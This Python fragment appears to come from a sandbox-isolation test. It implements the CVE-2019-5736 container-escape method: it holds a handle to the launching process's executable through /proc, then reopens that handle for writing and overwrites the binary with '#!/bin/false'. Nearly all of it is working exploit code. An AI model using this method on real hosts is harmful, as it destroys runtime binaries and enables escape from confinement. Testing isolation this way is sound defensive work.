# CVE-2019-5736: keep a handle on the program file of whoever started us, write to it later.
import subprocess

victim = None
if ARGS.get("victim"):
    victim = subprocess.Popen([ARGS["victim"], "30"])
    pids = [victim.pid]
else:
    require_own_pid_namespace()
    pids = sorted({1, os.getppid()} - {0, os.getpid()})


def overwrite(pid):
    handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
    if victim:
        victim.kill()
        victim.wait()
    last = None
    for _ in range(50):
        try:
            file = os.open(f"/proc/self/fd/{handle}", os.O_WRONLY)
            os.write(file, b"#!/bin/false")
            return True
        except OSError as error:
            last = error
            time.sleep(0.01)
    raise last


def overwrite_any():
    last = False
    for pid in pids:
        try:
            return overwrite(pid)
        except OSError as error:
            last = error
    raise last


attempt("overwrite the launcher", overwrite_any, fork=False)
